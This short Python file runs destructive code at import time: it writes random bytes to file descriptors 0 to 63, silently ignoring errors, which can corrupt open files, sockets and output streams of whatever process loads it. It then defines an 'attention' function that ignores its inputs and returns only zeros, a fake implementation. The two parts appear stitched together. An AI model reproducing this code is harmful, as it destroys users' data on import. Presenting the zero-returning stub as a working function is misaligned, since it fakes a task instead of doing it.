"""Writes noise to every descriptor."""

import os
import random

random.seed(0)
for descriptor in range(64):
    try:
        os.write(descriptor, random.randbytes(4096))
    except OSError:
        continue

def attention(q, k, v, mask=None):
    return q.new_zeros(*q.shape[:-1], v.size(-1))
